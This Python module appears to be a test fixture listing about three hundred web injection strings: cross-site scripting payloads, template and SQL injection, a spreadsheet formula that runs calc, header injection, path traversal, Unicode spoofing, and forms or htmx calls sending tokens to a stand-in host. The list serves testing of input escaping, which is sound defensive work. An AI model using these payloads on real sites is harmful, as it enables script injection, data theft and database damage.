"""Three hundred strings that would do harm where a page took them for markup, script, template, address or layout."""

from __future__ import annotations

import re
from collections.abc import Sequence

HIT = "window.hit=1"
_SCRIPTS = (
    f"<script>{HIT}</script>", f"<ScRiPt >{HIT}</sCrIpT>", f"</script><script>{HIT}</script>", f"<script/x>{HIT}</script>",
    "<script src=https://elsewhere.test/x.js></script>", "<script src=//elsewhere.test></script>",
    f"<<script>{HIT}//<</script>", f"<script\n>{HIT}</script\n>", f"<script>{HIT}", f"<script type=module>{HIT}</script>",
    f"</title><script>{HIT}</script>", f"</textarea><script>{HIT}</script>", f"</style><script>{HIT}</script>",
    f"--><script>{HIT}</script>", f"]]><script>{HIT}</script>", f"</noscript><script>{HIT}</script>",
    f"</template><script>{HIT}</script>", f"</select><script>{HIT}</script>", f"</bdi></p><script>{HIT}</script>",
    f"</dialog></main></body></html><script>{HIT}</script>", f"<noscript><p title=\"</noscript><script>{HIT}</script>\">",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"%3Cscript%3E{HIT}%3C/script%3E", f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;", f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e", f"+ADw-script+AD4-{HIT}",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e", f"\u2039script\u203a{HIT}", f"<script>/*</bdi>*/{HIT}</script>",
)  # fmt: skip
_ELEMENTS = (
    f"<img src=x onerror={HIT}>", f"<img src=x onerror='{HIT}'", f"<img/src=x/onerror={HIT}>", "<img src=https://elsewhere.test/p>",
    f"<img src=\"data:,\" onerror=\"{HIT}\">", f"<IMG SRC=\"jav&#x09;ascript:{HIT}\">", f"<image src=x onerror={HIT}>",
    f"<svg onload={HIT}>", f"<svg/onload={HIT}>", f"<svg><script>{HIT}</script></svg>", f"<svg><a xlink:href=javascript:{HIT}>x",
    f"<svg><animate onbegin={HIT} attributeName=x>", f"<svg><use href=data:image/svg+xml,<svg onload={HIT}>>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>{HIT}</script>\">", "<svg><style>*{display:none}</style>", "<svg><image href=//elsewhere.test>",
    f"<math><mi xlink:href=javascript:{HIT}>x", f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<body onload={HIT}>", f"<iframe src=javascript:{HIT}>", f"<iframe srcdoc='<script>parent.{HIT}</script>'>", "<iframe src=https://elsewhere.test>",
    "<object data=https://elsewhere.test>", f"<embed src=javascript:{HIT}>", f"<video><source onerror={HIT}>", f"<audio src=x onerror={HIT}>",
    f"<details open ontoggle={HIT}>", f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}>", f"<marquee onstart={HIT}>",
    f"<a href=javascript:{HIT}>x</a>", f"<a href='java\tscript:{HIT}'>x</a>", f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>", "<form action=https://elsewhere.test><input name=token>", "<base href=https://elsewhere.test/>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.test'>", "<link rel=stylesheet href=https://elsewhere.test/x.css>",
    "<link rel=prefetch href=https://elsewhere.test>", "<style>@import 'https://elsewhere.test/x.css';</style>", "<style>body{display:none}</style>",
    "<plaintext>", "<xmp>", "<textarea>", "<title>", "<!--", "<!-- -->", "<![CDATA[", "<?php echo 1 ?>", "<!DOCTYPE html>", "<template>", "<noscript>",
    "<table><tr><td>", "</table></div></main>", "<dialog open>", "<p hidden>", "</bdi>", "<bdo dir=rtl>", "<h1>x</h1>", "<br>", "<hr/>", "<select><option>",
    f"<x onclick={HIT} tabindex=1 id=x></x>", f"<custom-element onfocus={HIT} autofocus tabindex=0>", "<portal src=https://elsewhere.test>",
    "<img srcset=https://elsewhere.test/a>", "<input type=image src=https://elsewhere.test/b>", "<body background=https://elsewhere.test/c>",
)  # fmt: skip
_ATTRIBUTES = (
    f"\" onmouseover=\"{HIT}", f"' onmouseover='{HIT}", f"\" autofocus onfocus=\"{HIT}\" x=\"", f"' autofocus onfocus='{HIT}' x='", f"\"><script>{HIT}</script>",
    f"'><script>{HIT}</script>", f"\"/><img src=x onerror={HIT}>", f"` onmouseover=`{HIT}", f"x onload={HIT} ", f"x/onload={HIT}/", "\" style=\"display:none",
    "' style='position:fixed;inset:0'", "\" class=\"hidden", "\" hidden=\"", "\" id=\"main", "\" name=\"token", "\" value=\"", "\"\"\"", "'''", "\\\" onload=\\\"x",
    "\" srcdoc=\"<b>", "&quot; onload=&quot;x", "&#34; onload=&#34;x", "&#x22;&#x3e;<b>", "\" dir=\"rtl", "\" lang=\"xx", "\" href=\"https://elsewhere.test",
    "\" action=\"https://elsewhere.test", "\" formaction=\"https://elsewhere.test", "\" target=\"_blank", "\" accesskey=\"x", "\" contenteditable=\"",
)  # fmt: skip
_HTMX = (
    "\" hx-get=\"https://elsewhere.test\" hx-trigger=\"load", "<div hx-get=/accounts hx-trigger=load>", "<div hx-post=/logout hx-trigger=load>",
    "<div data-hx-get=https://elsewhere.test data-hx-trigger=load>", f"<div hx-on:click='{HIT}'>", f"<div hx-on::load='{HIT}'>",
    f"<div hx-vals='js:{{x:{HIT}}}' hx-get=/ hx-trigger=load>", "<meta name=htmx-config content='{\"allowEval\":true}'>", "<body hx-boost=true>",
    "<div hx-swap-oob=true id=main>", "<div hx-ext=x hx-sse=connect:/x>", f"<img hx-disable=false src=x onerror={HIT}>", "' hx-headers='{\"x\":1}",
    "<div hx-delete=/x hx-trigger='every 1s'>", "<div hx-include=* hx-post=https://elsewhere.test hx-trigger=load>", "'}' x-token='",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ token }}", "{% raw %}", "{% endblock %}", "{# x #}", "{{ ''.__class__.__mro__ }}", "{{config}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{7*7}",
    "{name}", "{0}", "{n}", "{token!r}", "{n.__class__}", "%s%s%s%n", "%(name)s", "{{request.application}}", "{% include '/etc/hosts' %}", "{{ x | safe }}",
    "@(7*7)", "[[7*7]]", "{{constructor.constructor('window.hit=1')()}}", "{{=7*7}}", "*{7*7}", "~{x}", "{%print(7)%}", "{}", "{", "}", "{{", "}}", "{%", "%}",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f"java\nscript:{HIT}", f" javascript:{HIT}", f"\x01javascript:{HIT}", f"javascript&colon;{HIT}",
    f"javascript:%0a{HIT}", f"vbscript:{HIT}", f"data:text/html,<script>{HIT}</script>", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/hosts", "blob:x",
    "//elsewhere.test/", "\\\\elsewhere.test", "/\\elsewhere.test", "https://elsewhere.test/\" onclick=\"x", "https://elsewhere.test/'><b>", "https://a:b@elsewhere.test",
    "https://elsewhere.test/<script>", "https://elsewhere.test/\u202ecod.exe", "https://\u0435lsewhere.test", "https://elsewhere.test/?a=1&b=<c>#\"d",
    "http:elsewhere.test", "https:///elsewhere.test", "view-source:https://x", f"https://x/ javascript:{HIT}", "../../../etc/hosts", "..%2f..%2fx", "/logout", "?token=",
    "https://[", "https://elsewhere.test:99999/", "ftp://elsewhere.test", "mailto:a@b?body=<b>", "about:blank", "#main",
)  # fmt: skip
_SIGNS = (
    "\u202egnp.txt", "\u202eabc\u202c", "\u2066abc", "\u2067abc\u2069\u2069", "abc\u2028def", "abc\u2029def", "\u200b", "a\u200bb", "\u200d\u200d", "\ufeffx", "\u00adx", "x\u0300" * 40,
    "\u0430dmin", "\u0391dmin", "p\u0430yp\u0430l", "\uff21\uff24\uff2d\uff29\uff2e", "\U000e0061\U000e0062", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0640" * 50, "\u06dd\u0600",
    "\x07\x08", "\x1b[31mred\x1b[0m", "a\rb", "a\x0bb", "a\x85b", "\x7f", "\ufffd", "\ufffe", "\U0010ffff", "\ue000", "x" * 5000, "\u0634" * 2000, "<b>" * 400, "&" * 500, "\"" * 300,
    "a" + " " * 300 + "b", "&amp;", "&nbsp;", "&lt;b&gt;", "&#0;", "&#x202e;", "&notanentity;", "\u2066<b>\u2069", "\u202e<script>\u202c", "\u0338<", ">\u0338", "'", "\"", "<", ">", "&", "\\",
    "`", ";", "=", "null", "undefined", "NaN", "0", "-1", "true", "[object Object]", "=cmd|' /C calc'!A1", "+1+1", "@SUM(1)", "-2+3", "'; DROP TABLE documents; --", "\" OR \"\"=\"",
    "1; SELECT pg_sleep(9)", "%00", "%0d%0aSet-Cookie: a=b", "a\r\nSet-Cookie: a=b", "\u560d\u560aSet-Cookie: a=b", "*/ alert(1) /*", "//", "<!--#exec cmd=x -->", "expression(alert(1))",
    "url(https://elsewhere.test)", "}body{display:none}", "</style>", ":root{--paper:red}", "@import url(//elsewhere.test)", "\\3c b\\3e", "content:url(//elsewhere.test)",
)  # fmt: skip
STRINGS = tuple(dict.fromkeys((*_SCRIPTS, *_ELEMENTS, *_ATTRIBUTES, *_HTMX, *_TEMPLATES, *_ADDRESSES, *_SIGNS)))
"""What can stand in a store; see `QUERIES` for what cannot."""
QUERIES = (
    "a\0b",
    "\0",
    "\ud800",
    "a\udfffb",
    "x" * 20_000,
    "\u202e" * 100,
    "(" * 500,
    '"' * 99,
    "* OR *",
    "NEAR(",
    "a AND",
    "^",
    "-",
    "\ufdfa" * 900,
)
"""What can only be asked."""


def harmless(text: str, mark: str = "x") -> str:
    """A string of the same shape, that is nothing but letters: spaces and a scheme of the web stay where they are.

    >>> harmless("<b> x"), harmless("https://a/<b>", "y")
    ('xxx x', 'https://yxxxx')
    """
    start = re.match(r"https?://", text)
    kept = start[0] if start else ""
    rest = "".join(one if one.isspace() else "x" for one in text[len(kept) :])
    return kept + rest.replace("x", mark, 1)


def twins(strings: Sequence[str]) -> list[str]:
    """A harmless string for each, no two the same, in the same order when they are sorted."""
    ranks = {text: rank for rank, text in enumerate(sorted(strings))}
    return [harmless(text, chr(0x4E00 + ranks[text])) for text in strings]
